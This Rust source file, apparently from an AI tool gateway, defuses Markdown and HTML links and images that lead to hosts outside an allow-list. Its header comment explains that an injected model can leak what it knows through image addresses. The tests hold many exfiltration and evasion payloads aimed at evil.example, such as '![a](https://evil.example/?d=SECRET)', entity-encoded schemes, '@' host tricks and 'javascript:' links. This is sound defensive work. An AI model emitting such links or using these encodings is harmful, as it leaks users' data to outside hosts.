//! Links and images that lead elsewhere: a model that was told to can put what it knows into the address of an image,
//! and whoever shows the text fetches it.
//!
//! What is defused stays readable: `![a](https://b/c)` becomes ``![a] (`https://b/c`)``, a tag loses its brackets.
//! Nothing of it is a link or image any more in Markdown or HTML, so that defusing twice changes nothing more.
use super::Then;
use crate::kernel::json::{Patches, Value, string};
use crate::kernel::policy::source::LinksThen;
use std::cell::Cell;
use url::Url;

/// The terms of a server.
#[derive(Clone, Debug)]
pub struct Links {
    /// Where links may lead.
    pub places: Vec<Place>,
    /// What happens to others in results.
    pub then: LinksThen,
    /// What becomes of calls that would send others out.
    pub arguments: Then,
}

/// Where links may lead.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Place {
    scheme: String,
    /// Without the `*.`.
    host: String,
    below: bool,
    port: Option<u16>,
    path: String,
}

impl Place {
    /// Reads `https://*.example.com/docs/`.
    pub fn parse(text: &str) -> Option<Self> {
        let (scheme, rest) = text.split_once("://")?;
        let (below, rest) = rest.strip_prefix("*.").map_or((false, rest), |rest| (true, rest));
        if rest.contains(['*', '@', '?', '#', '\\']) {
            return None;
        }
        let url = Url::parse(&format!("{scheme}://{rest}")).ok()?;
        let host = url.host_str()?.to_owned();
        let named = !below || host.contains('.');
        (matches!(url.scheme(), "https" | "http") && named).then(|| Self {
            scheme: url.scheme().to_owned(),
            host,
            below,
            port: url.port_or_known_default(),
            path: url.path().to_owned(),
        })
    }

    fn has(&self, url: &Url) -> bool {
        let host = url.host_str().unwrap_or_default();
        let fits = match self.below {
            true => host.strip_suffix(&self.host).is_some_and(|rest| rest.ends_with('.')),
            false => host == self.host,
        };
        let path = url.path();
        let under = path
            .strip_prefix(&self.path)
            .is_some_and(|rest| rest.is_empty() || self.path.ends_with('/') || rest.starts_with('/'));
        fits && under
            && url.scheme() == self.scheme
            && url.port_or_known_default() == self.port
            && url.username().is_empty()
            && url.password().is_none()
    }
}

/// Reads the texts of one value.
struct Reader<'l> {
    places: &'l [Place],
    /// How many bytes of addresses and tags may still be looked at. What is left then is taken to lead out, so that what is
    /// made to be read again and again is neither read for hours nor let through.
    left: Cell<usize>,
}

/// A tag that was read.
#[derive(Clone, Copy)]
struct Read {
    /// How much text was left behind it.
    left: usize,
    closed: bool,
}

/// How often each byte of a text may be looked at, and how many more of a short one.
const TIMES: usize = 32;
const FIRST: usize = 64 << 10;

impl Reader<'_> {
    fn of<'l>(links: &'l Links, text: &str) -> Reader<'l> {
        Reader { places: &links.places, left: Cell::new(text.len().saturating_mul(TIMES).saturating_add(FIRST)) }
    }

    /// Whether so many bytes may be looked at.
    fn take(&self, bytes: usize) -> bool {
        let left = self.left.get().checked_sub(bytes);
        self.left.set(left.unwrap_or(0));
        left.is_some()
    }

    /// Whether an address leads out, and to no place that is allowed, for any who might read it. What has no host
    /// leads nowhere.
    fn is_foreign(&self, address: &str) -> bool {
        if !self.take(address.len()) {
            return true;
        }
        let html = unescaped(address, Syntax::Html);
        let markdown = unescaped(address, Syntax::Markdown);
        // Some decode entities first, so that they may make a backslash one that goes.
        let both = html.as_deref().and_then(|html| unescaped(html, Syntax::Markdown));
        let unescaped = [markdown, both].into_iter().flatten().any(|plain| self.is_foreign_as_it_is(&plain, true));
        unescaped
            || self.is_foreign_as_it_is(html.as_deref().unwrap_or(address), false)
            || self.is_foreign_as_it_is(address, false)
    }

    /// The same of an address without entities, and without escapes if they are `gone`.
    fn is_foreign_as_it_is(&self, address: &str, gone: bool) -> bool {
        // As browsers read it, and whoever trims it first: white space and control characters go.
        let plain: String =
            address.chars().filter(|c| !c.is_control() && !c.is_whitespace() && *c != '\u{feff}').collect();
        let slashes: String = plain.chars().take(2).map(|c| if c == '\\' { '/' } else { c }).collect();
        let whole = if slashes == "//" { format!("https://{}", plain.get(2..).unwrap_or_default()) } else { plain };
        let Some((scheme, rest)) = whole.split_once(':') else { return false };
        if !is_scheme(scheme) {
            // Browsers take it for a path; others may take off what is too much.
            let named = !scheme.is_empty() && !scheme.contains(['/', '\\', '?', '#']);
            return named && rest.replace('\\', "/").starts_with("//");
        }
        match scheme.to_ascii_lowercase().as_str() {
            "mailto" | "tel" | "data" | "cid" | "urn" => false,
            _ => {
                // In the name of a host nobody writes these, and readers differ in what they make of them.
                let authority = rest.trim_start_matches(['/', '\\']).split(['/', '?', '#']).next().unwrap_or_default();
                authority.contains('&')
                    || (gone && authority.contains('\\'))
                    || !Url::parse(&whole).is_ok_and(|url| self.places.iter().any(|place| place.has(&url)))
            }
        }
    }

    /// See [`Links::defused`].
    fn defused(&self, text: &str) -> Option<String> {
        // What is made of one piece can change what the piece before it is; a few times round nothing does any more.
        const ROUNDS_MAX: usize = 8;
        let mut made = self.defused_once(text)?;
        for _ in 1..ROUNDS_MAX {
            match self.defused_once(&made) {
                Some(again) => made = again,
                None => return Some(made),
            }
        }
        // Nobody writes such a text by chance: nothing in it is left to be anything.
        Some(made.replace(['<', '[', ']'], " "))
    }

    fn defused_once(&self, text: &str) -> Option<String> {
        if !text.contains(['<', ']']) {
            return None;
        }
        let mut out = String::with_capacity(text.len() + 64);
        let mut rest = text;
        let mut found = false;
        let mut read = None;
        while let Some((before, after)) = rest.find(['<', ']']).and_then(|at| rest.split_at_checked(at)) {
            out.push_str(before);
            let (made, left) = match after.starts_with('<') {
                true => self.tag(after, &mut read),
                false => self.markdown(after),
            };
            found |= made.is_some();
            match made {
                Some(made) => {
                    out.push_str(&made);
                    rest = left;
                }
                None => {
                    let (one, left) = after.split_at_checked(1).unwrap_or((after, ""));
                    out.push_str(one);
                    rest = left;
                }
            }
        }
        out.push_str(rest);
        found.then_some(out)
    }

    /// `](address`, and `]: address` of a definition; begins at the bracket.
    fn markdown<'a>(&self, text: &'a str) -> (Option<String>, &'a str) {
        let none = (None, text);
        let Some(opener) = text.get(1..2).filter(|next| matches!(*next, "(" | ":")) else { return none };
        let Some(behind) = text.get(2..) else { return none };
        let start = within_quotes(behind);
        let (address, left) = match start.strip_prefix('<') {
            Some(inner) => inner.split_once('>').unwrap_or((inner, "")),
            None => start.split_at_checked(end_of(start)).unwrap_or((start, "")),
        };
        if !self.is_foreign(address) {
            return none;
        }
        (Some(format!("] {opener}`{}`", inert(address))), left)
    }

    /// A tag that has an address, or an address in pointed brackets; begins at the bracket. `read`: the last tag that was
    /// none of these. A tag that begins inside it ends where it does, and no address in it leads out either.
    fn tag<'a>(&self, text: &'a str, read: &mut Option<Read>) -> (Option<String>, &'a str) {
        let none = (None, text);
        let Some(inner) = text.get(1..) else { return none };
        if !inner.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            return none;
        }
        let known = read.filter(|read| inner.len() > read.left);
        let length = match known {
            Some(read) => inner.len() - read.left - usize::from(read.closed),
            None => inner.find('>').unwrap_or(inner.len()),
        };
        let (inside, left) = inner.split_at_checked(length).unwrap_or((inner, ""));
        let closed = !left.is_empty();
        let left = left.get(1..).unwrap_or_default();
        let named = inside.strip_prefix('/').unwrap_or(inside);
        let name = named.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap_or_default();
        if inside.get(name.len()..).is_some_and(|rest| rest.starts_with(':')) {
            let is_one = !self.take(inside.len()) || !inside.contains(char::is_whitespace);
            if is_one && self.is_foreign(inside) {
                return (Some(format!("`{}`", inert(inside))), left);
            }
            if is_one {
                return none;
            }
        }
        if !holds_more(&name.to_ascii_lowercase()) && (known.is_some() || !self.tag_leads_out(inside)) {
            *read = Some(Read { left: left.len(), closed });
            return none;
        }
        let end = if closed { "›" } else { "" };
        let inside = inside.replace('<', "‹");
        // Without brackets it is text, which may have links of its own.
        (Some(format!("‹{}{end}", self.defused(&inside).unwrap_or(inside))), left)
    }

    /// Whether an address in a tag leads out.
    fn tag_leads_out(&self, inside: &str) -> bool {
        if !self.take(inside.len()) {
            return true;
        }
        let plain = unescaped(inside, Syntax::Html).unwrap_or_else(|| inside.to_owned());
        let plain: String = plain.chars().filter(|c| !c.is_control()).collect();
        // Not every client is a browser: to some a backslash is none.
        let markdown = unescaped(&plain, Syntax::Markdown).is_some_and(|plain| self.has_foreign(&plain));
        markdown || self.has_foreign(&plain.replace('\\', "/"))
    }

    /// Whether there is an address that leads out within the text of a tag.
    fn has_foreign(&self, plain: &str) -> bool {
        // Wherever there are two slashes an address begins, if a scheme or nothing stands before them.
        let addressed = plain.match_indices("//").any(|(at, _)| {
            let before = plain.get(..at).unwrap_or_default();
            let parts = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ',' | ';' | '`' | '<');
            if !before.ends_with(':') && before.chars().next_back().is_some_and(|last| !parts(last)) {
                return false;
            }
            let begins = before.char_indices().rev().find(|(_, c)| parts(*c));
            let from = begins.map_or(0, |(begins, part)| begins + part.len_utf8());
            let address = plain.get(from..).unwrap_or_default();
            let address =
                address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
            let address = address.unwrap_or_default();
            if !self.take(address.len() + at - from) {
                return true;
            }
            let scheme = address.split("//").next().unwrap_or_default();
            (scheme.is_empty() || scheme.ends_with(':')) && self.is_foreign(address)
        });
        let lower = plain.to_ascii_lowercase();
        // `https:evil.example` is an address for browsers too.
        let bare = ["http:", "https:", "javascript:", "vbscript:", "ftp:", "ws:", "wss:"].iter().any(|scheme| {
            lower.match_indices(scheme).any(|(at, _)| {
                let address = plain.get(at..).unwrap_or_default();
                let address =
                    address.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ',' | '`')).next();
                self.is_foreign(address.unwrap_or_default())
            })
        });
        addressed || bare
    }

    /// See [`Links::leads_out`].
    fn leads_out(&self, text: &str) -> bool {
        unescaped(text, Syntax::Html).is_some_and(|plain| self.names_foreign(&plain.replace('\\', "/")))
            || unescaped(text, Syntax::Markdown).is_some_and(|plain| self.names_foreign(&plain))
            || self.names_foreign(&text.replace('\\', "/"))
    }

    fn names_foreign(&self, plain: &str) -> bool {
        // Where no scheme ends none begins.
        let ends =
            plain.match_indices("//").filter(|(at, _)| plain.get(..*at).is_some_and(|front| front.ends_with(':')));
        let addresses = ends.map(|(at, _)| {
            let before = plain.get(..at).unwrap_or_default();
            let begins = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.' | ':'));
            let from = begins.map_or(0, |begins| {
                begins + plain.get(begins..).map_or(1, |c| c.chars().next().map_or(1, char::len_utf8))
            });
            let address = plain.get(from..).unwrap_or_default();
            address
                .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | '`'))
                .next()
                .unwrap_or_default()
        });
        let mut foreign = addresses.filter(|address| {
            let scheme = address.split("//").next().unwrap_or_default();
            // What stands before it and begins no scheme does not belong to it, as in `1.https://`.
            let begins = scheme.find(|c: char| c.is_ascii_alphabetic());
            let address = begins.and_then(|begins| address.get(begins..)).unwrap_or_default();
            let address = address.trim_end_matches(['.', ',', ';', '!', '?']);
            !self.take(address.len() + scheme.len()) || scheme.ends_with(':') && self.is_foreign(address)
        });
        foreign.next().is_some()
    }
}

impl Links {
    /// The text without links and images that lead elsewhere; `None` if there is none.
    pub fn defused(&self, text: &str) -> Option<String> {
        Reader::of(self, text).defused(text)
    }

    /// Whether a text to be sent has an address that leads to no allowed place.
    pub fn leads_out(&self, text: &str) -> bool {
        Reader::of(self, text).leads_out(text)
    }

    fn is_foreign(&self, address: &str) -> bool {
        Reader::of(self, address).is_foreign(address)
    }

    /// Whether any text of what is to be sent does.
    pub fn any_leads_out(&self, value: Value<'_>) -> bool {
        value.as_str().is_some_and(|text| self.leads_out(&text))
            || value.entries().any(|(key, entry)| self.leads_out(&key.text()) || self.any_leads_out(entry))
            || value.elements().any(|element| self.any_leads_out(element))
    }

    /// Defuses every text below a value. How many there were.
    pub fn defuse(&self, value: Value<'_>, patches: &mut Patches) -> usize {
        if !value.raw().iter().any(|byte| matches!(byte, b'<' | b']' | b'\\')) && !is_link(value) {
            return 0;
        }
        if let Some(text) = value.as_str() {
            return match self.defused(&text) {
                Some(made) => {
                    patches.replace(value, string(&made));
                    1
                }
                None => 0,
            };
        }
        if is_link(value)
            && let Some(address) = value.get("uri").and_then(|uri| uri.as_str()).filter(|uri| self.is_foreign(uri))
        {
            let name = value.get("name").and_then(|name| name.as_str()).unwrap_or_default();
            let text = format!("{name}: `{}`", inert(&address));
            let made = serde_json::json!({ "type": "text", "text": self.defused(&text).unwrap_or(text) });
            patches.replace(value, made.to_string().into_bytes());
            return 1;
        }
        let mut found = 0;
        for (key, entry) in value.entries() {
            let icons = key.is("icons")
                && entry
                    .elements()
                    .any(|icon| icon.get("src").and_then(|src| src.as_str()).is_some_and(|src| self.is_foreign(&src)));
            if icons {
                patches.remove(entry);
                found += 1;
            } else {
                found += self.defuse(entry, patches);
            }
        }
        found + value.elements().map(|element| self.defuse(element, patches)).sum::<usize>()
    }
}

/// Whether what is within a tag of this name is no text, or changes where everything leads.
fn holds_more(name: &str) -> bool {
    matches!(name, "script" | "style" | "base" | "meta" | "iframe" | "object" | "embed" | "form" | "svg" | "link")
}

/// A block that clients show as a link.
fn is_link(value: Value<'_>) -> bool {
    value.get("type").is_some_and(|kind| kind.raw() == b"\"resource_link\"")
        || value.elements().any(is_link)
        || (value.is_object() && value.get("icons").is_some())
        || value.entries().any(|(key, entry)| (key.is("content") || key.is("result")) && is_link(entry))
}

/// An address as text within backticks, with nothing that could begin a link or a tag.
fn inert(address: &str) -> String {
    address.replace('`', "%60").replace(']', "%5D").replace('<', "‹").replace('>', "›")
}

fn is_scheme(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_alphabetic())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
}

/// Where an address in Markdown ends: at white space, or at a bracket that it did not open.
fn end_of(text: &str) -> usize {
    let mut open = 0_usize;
    let mut escaped = false;
    for (at, character) in text.char_indices() {
        match character {
            _ if std::mem::take(&mut escaped) => {}
            '\\' => escaped = true,
            character if character.is_whitespace() => return at,
            '(' => open += 1,
            ')' if open == 0 => return at,
            ')' => open -= 1,
            _ => {}
        }
    }
    text.len()
}

/// What follows, without white space, and on a further line without the marks of the quotes that it is in.
fn within_quotes(text: &str) -> &str {
    let start = text.trim_start();
    let space = text.get(..text.len() - start.len()).unwrap_or_default();
    match space.contains(['\n', '\r']) {
        true => start.trim_start_matches(|c: char| c == '>' || c.is_whitespace()),
        false => start,
    }
}

/// Who reads an address.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Syntax {
    /// The number of an entity ends wherever it ends.
    Html,
    /// It ends with a semicolon, and a backslash before punctuation is none.
    Markdown,
}

/// Entities and backslashes as what they stand for; `None` if there is nothing of that kind.
fn unescaped(text: &str, syntax: Syntax) -> Option<String> {
    let markdown = syntax == Syntax::Markdown;
    if !(text.contains('&') || markdown && text.contains('\\')) {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(|c| c == '&' || markdown && c == '\\') {
        let (before, from) = rest.split_at_checked(at).unwrap_or((rest, ""));
        out.push_str(before);
        // One byte either way.
        let (mark, after) = from.split_at_checked(1).unwrap_or((from, ""));
        let found = match mark {
            "&" => entity(after).filter(|(_, _, closed)| *closed || !markdown).map(|(c, left, _)| (c, left)),
            _ => after.chars().next().filter(char::is_ascii_punctuation).zip(after.get(1..)),
        };
        match found {
            Some((character, left)) => {
                out.push(character);
                rest = left;
            }
            None => {
                out.push_str(mark);
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

/// What an entity stands for, what follows it, and whether a semicolon ends it; begins behind the ampersand.
fn entity(text: &str) -> Option<(char, &str, bool)> {
    let (length, number) = match text.strip_prefix('#') {
        // However many zeros there are.
        Some(number) => match number.strip_prefix(['x', 'X']) {
            Some(digits) => (2 + digits.bytes().take_while(u8::is_ascii_hexdigit).count(), Some(16)),
            None => (1 + number.bytes().take_while(u8::is_ascii_digit).count(), Some(10)),
        },
        None => (text.bytes().take(10).take_while(u8::is_ascii_alphanumeric).count(), None),
    };
    let (name, left) = text.split_at_checked(length)?;
    let (left, closed) = left.strip_prefix(';').map_or((left, false), |left| (left, true));
    let character = match number {
        Some(radix) => {
            let digits = name.trim_start_matches(['#', 'x', 'X']);
            if digits.is_empty() {
                return None;
            }
            let code = u32::from_str_radix(digits, radix).ok().and_then(char::from_u32);
            code.unwrap_or(char::REPLACEMENT_CHARACTER)
        }
        None => match name {
            "colon" => ':',
            "sol" => '/',
            "bsol" => '\\',
            "period" => '.',
            "Tab" | "NewLine" => ' ',
            "quot" => '"',
            "apos" => '\'',
            _ => return None,
        },
    };
    // Of the names above only this one needs no semicolon.
    (closed || number.is_some() || name == "quot").then_some((character, left, closed))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kernel::json::{Bounds, Document};
    use proptest::prelude::*;

    fn links(allow: &[&str]) -> Links {
        let places = allow.iter().map(|text| Place::parse(text).unwrap()).collect();
        Links { places, then: LinksThen::Defuse, arguments: Then::Refuse }
    }

    #[test]
    fn what_is_made_to_be_read_again_and_again_is_read_once_and_leads_nowhere() {
        let links = links(&["https://ok.example/"]);
        // Each of these took time that grew with the square of its length: for so much, hours.
        let units = [
            "<a ",
            "<a",
            "](<",
            "](a",
            "](https://ok.example/",
            "\\<a\\](",
            "//",
            "1://",
            "https://ok.example/",
            "<a:",
            "&#x2f;",
        ];
        for unit in units {
            for text in [unit.repeat(100_000 / unit.len()), format!("<i x=\"{}\">", unit.repeat(100_000 / unit.len()))]
            {
                let made = links.defused(&format!("{text} <img src=//evil.example/x> ![a](https://evil.example/x)"));
                let made = made.unwrap_or_default();
                assert!(!made.contains("<img") && !made.contains("](https://evil"), "{unit}");
                assert!(links.leads_out(&format!("{text} https://evil.example/x")), "{unit}");
            }
        }
        // Ordinary texts of the kind stay as they are.
        for text in [
            "if (a<b) { c->d = e<f ? g : h; }\n".repeat(1_000),
            "//////////////////////////////////////////////////////////////////////////////\n".repeat(1_000),
            "<td><a href=\"https://ok.example/x\">x</a></td>\n".repeat(1_000),
            "- [x](https://ok.example/a) and ![y](data:image/png;base64,iVBORw0KGgo=)\n".repeat(1_000),
        ] {
            assert_eq!(links.defused(&text), None);
            assert!(!links.leads_out(&text));
        }
        // The name of a tag counts wherever it begins, and an address behind a bracket inside one.
        assert_eq!(links.defused("<a <script>").as_deref(), Some("<a ‹script›"));
        for text in ["<x<//evil.example/p>", "<x <https://evil.example/p>", "<a\u{2003}//evil.example/p>"] {
            let made = links.defused(text).unwrap_or_default();
            assert!(!made.contains('<'), "{text} {made}");
        }
    }

    #[test]
    fn what_leads_elsewhere_is_text_and_stays_readable() {
        let links = links(&["https://*.example.com/", "https://example.org/docs/"]);
        for (text, made) in [
            ("![a](https://evil.example/?d=SECRET)", "![a] (`https://evil.example/?d=SECRET`)"),
            ("see [here](https://evil.example/x \"title\").", "see [here] (`https://evil.example/x` \"title\")."),
            (
                "[![i](https://a.evil.example/1)](https://evil.example/2)",
                "[![i] (`https://a.evil.example/1`)] (`https://evil.example/2`)",
            ),
            ("![a][1]\n\n[1]: https://evil.example/x", "![a][1]\n\n[1] :`https://evil.example/x`"),
            ("![a](<https://evil.example/a b>)", "![a] (`https://evil.example/a b`)"),
            ("![a](//evil.example/x)", "![a] (`//evil.example/x`)"),
            ("![a](\\/\\/evil.example/x)", "![a] (`\\/\\/evil.example/x`)"),
            ("![a](ht&#116;ps&colon;//evil.example)", "![a] (`ht&#116;ps&colon;//evil.example`)"),
            ("<https://evil.example/x>", "`https://evil.example/x`"),
            ("<img src=\"https://evil.example/x\">", "‹img src=\"https://evil.example/x\"›"),
            ("<IMG SRC=//evil.example/x", "‹IMG SRC=//evil.example/x"),
            ("<img src='ht\ntps:\\\\evil.example/x'>", "‹img src='ht\ntps:\\\\evil.example/x'›"),
            ("<img src=\"h&#x74;tps:&sol;&sol;evil.example\"/>", "‹img src=\"h&#x74;tps:&sol;&sol;evil.example\"/›"),
            ("<td background=https:evil.example>", "‹td background=https:evil.example›"),
            ("<style>*{background:url(x)}</style>", "‹style›*{background:url(x)}‹/style›"),
            ("<a href=javascript:alert(1)>x</a>", "‹a href=javascript:alert(1)›x</a>"),
            ("[a](https://example.com.evil.example/)", "[a] (`https://example.com.evil.example/`)"),
            ("[a](https://www.example.com@evil.example/)", "[a] (`https://www.example.com@evil.example/`)"),
            ("[a](https://example.org/docs/../x)", "[a] (`https://example.org/docs/../x`)"),
            ("[a](javascript:alert(1))", "[a] (`javascript:alert(1)`)"),
        ] {
            let defused = links.defused(text);
            assert_eq!(defused.as_deref(), Some(made), "{text}");
            assert_eq!(links.defused(made), None, "{made}");
        }
        for text in [
            "no link at all, 3 < 4 and [1]",
            "![a](https://www.example.com/x?y=z)",
            "[a](https://example.org/docs/x) [b](#anchor) [c](page.md) [d](mailto:ann@example.org)",
            "a bare https://evil.example/x stays what it is: text",
            "Vec<String> and array[0](1)",
            "<b>bold</b><br/><a href=\"https://www.example.com/x\">x</a>",
        ] {
            assert_eq!(links.defused(text), None, "{text}");
        }
    }

    #[test]
    fn what_clients_take_for_an_address_is_one_however_it_is_escaped() {
        let links = links(&["https://*.example.com/", "https://example.org/docs/"]);
        for (text, made) in [
            ("![a](https\\://evil.example/?d=SECRET)", "![a] (`https\\://evil.example/?d=SECRET`)"),
            ("![a](https:\\/\\/evil.example)", "![a] (`https:\\/\\/evil.example`)"),
            ("![a](\\/\\/evil.example)", "![a] (`\\/\\/evil.example`)"),
            ("![a](https\\&#58;//evil.example)", "![a] (`https\\&#58;//evil.example`)"),
            ("[a](https://www.example.com\\@evil.example/)", "[a] (`https://www.example.com\\@evil.example/`)"),
            ("[a](https://evil.example\\.www.example.com/)", "[a] (`https://evil.example\\.www.example.com/`)"),
            ("[a](https://evil.example\\x.example.com/)", "[a] (`https://evil.example\\x.example.com/`)"),
            ("[a](<https://www.example.com\\>@evil.example/>)", "[a] (`https://www.example.com\\`@evil.example/>)"),
            ("[a](1https://evil.example)", "[a] (`1https://evil.example`)"),
            ("[a](\u{feff}https://evil.example)", "[a] (`\u{feff}https://evil.example`)"),
            ("> [1]:\n> https://evil.example", "> [1] :`https://evil.example`"),
            ("> > [1]:\r\n> > <https://evil.example>", "> > [1] :`https://evil.example`"),
            ("> ![a](\n> https://evil.example)", "> ![a] (`https://evil.example`)"),
            (
                "![a](https&#00000000000058;&#00000000000047;&#x0000000000002F;evil.example)",
                "![a] (`https&#00000000000058;&#00000000000047;&#x0000000000002F;evil.example`)",
            ),
            ("<img src=https&#00000000000058;//evil.example>", "‹img src=https&#00000000000058;//evil.example›"),
            (
                "<a href='https://www.example.com\\@evil.example/'>",
                "‹a href='https://www.example.com\\@evil.example/'›",
            ),
            // To Markdown without a semicolon, and so to browsers afterwards, this is a part of the name.
            ("![a](https://www.example.com&sol.evil.example/)", "![a] (`https://www.example.com&sol.evil.example/`)"),
            ("![a](https://www.example.com&#47.evil.example/)", "![a] (`https://www.example.com&#47.evil.example/`)"),
            // A name that is none of those that are known here.
            ("![a](https://evil.example&num;.example.com/)", "![a] (`https://evil.example&num;.example.com/`)"),
        ] {
            let defused = links.defused(text);
            assert_eq!(defused.as_deref(), Some(made), "{text}");
            assert_eq!(links.defused(made), None, "{made}");
        }
        for text in [
            "[a](https://www.example.com/a\\_b\\(c\\)?d=e&amp;f=g&h=i)",
            "[a](https:\\/\\/www.example.com\\/x)",
            "[2024]: 12:30:00 and [INFO]: 2024-03-02T10:00",
            "[a]: > https",
            "> [1]:\n> page.md",
            "[a](dir/a:b//c)",
            "<a href=\"https://www.example.com/x?a=1&amp;b=2&copy=3\" title=\"&quot;https://www.example.com/&quot;\">",
        ] {
            assert_eq!(links.defused(text), None, "{text}");
        }
        for text in [
            "![a](https\\://evil.example/?d=SECRET)",
            "[a](https://www.example.com\\@evil.example/)",
            "https&#00000000000058;&#00000000000047;/evil.example",
            "> [1]:\n> https://evil.example",
            "1.https://evil.example",
        ] {
            assert!(links.leads_out(text), "{text}");
        }
        for text in
            ["1.https://www.example.com/", "https?:\\/\\/", "12:30://", "{\"u\":\"https:\\/\\/www.example.com\"}"]
        {
            assert!(!links.leads_out(text), "{text}");
        }
    }

    #[test]
    fn blocks_that_are_links_become_text_and_everything_else_stays() {
        let links = links(&["https://*.example.com/"]);
        let text = r#"{"content":[{"type":"resource_link","uri":"https://evil.example/x","name":"report"},{"type":"text","text":"1.50"}],"structuredContent":{"n":1.50,"t":"![](https://evil.example/)"}}"#;
        let document = Document::parse(text.to_owned().into(), &Bounds::default()).unwrap();
        let mut patches = Patches::default();
        assert_eq!(links.defuse(document.root(), &mut patches), 2);
        let made = document.write(&patches);
        let expected = r#"{"content":[{"type":"text","text":"report: `https://evil.example/x`"},{"type":"text","text":"1.50"}],"structuredContent":{"n":1.50,"t":"![] (`https://evil.example/`)"}}"#;
        assert_eq!(std::str::from_utf8(&made).unwrap(), expected);
        let again = Document::parse(made.clone(), &Bounds::default()).unwrap();
        let mut patches = Patches::default();
        assert_eq!((links.defuse(again.root(), &mut patches), again.write(&patches)), (0, made));
    }

    #[test]
    fn what_is_sent_may_lead_to_allowed_places_only() {
        let links = links(&["https://*.example.com/"]);
        for text in [
            "go to https://evil.example/?q=x.",
            "(http://www.example.com/)",
            "https:\\\\evil.example",
            "xhttps://evil.example",
        ] {
            assert!(links.leads_out(text), "{text}");
        }
        for text in ["go to https://www.example.com/x?y, please", "a // comment", "and/or", "", "ü//"] {
            assert!(!links.leads_out(text), "{text}");
        }
    }

    proptest! {
        #[test]
        fn defusing_twice_is_defusing_once(parts in proptest::collection::vec(prop_oneof![
            Just("]("), Just("]:"), Just("["), Just("!["), Just(")"), Just("<"), Just(">"), Just("img src="), Just("`"),
            Just("https://evil.example/"), Just("//evil"), Just("https:"), Just(" "), Just("\n"), Just("a"), Just("\""),
            Just("\\"), Just("&#58;"), Just("&#0000000000047;"), Just("\n> "), Just("@"), Just("‹"), Just("script"), Just("(")], 0..24)) {
            let (text, links) = (parts.concat(), links(&["https://*.example.com/"]));
            if let Some(once) = links.defused(&text) {
                prop_assert_eq!(links.defused(&once), None, "{} -> {}", text, once);
            }
        }
    }
}
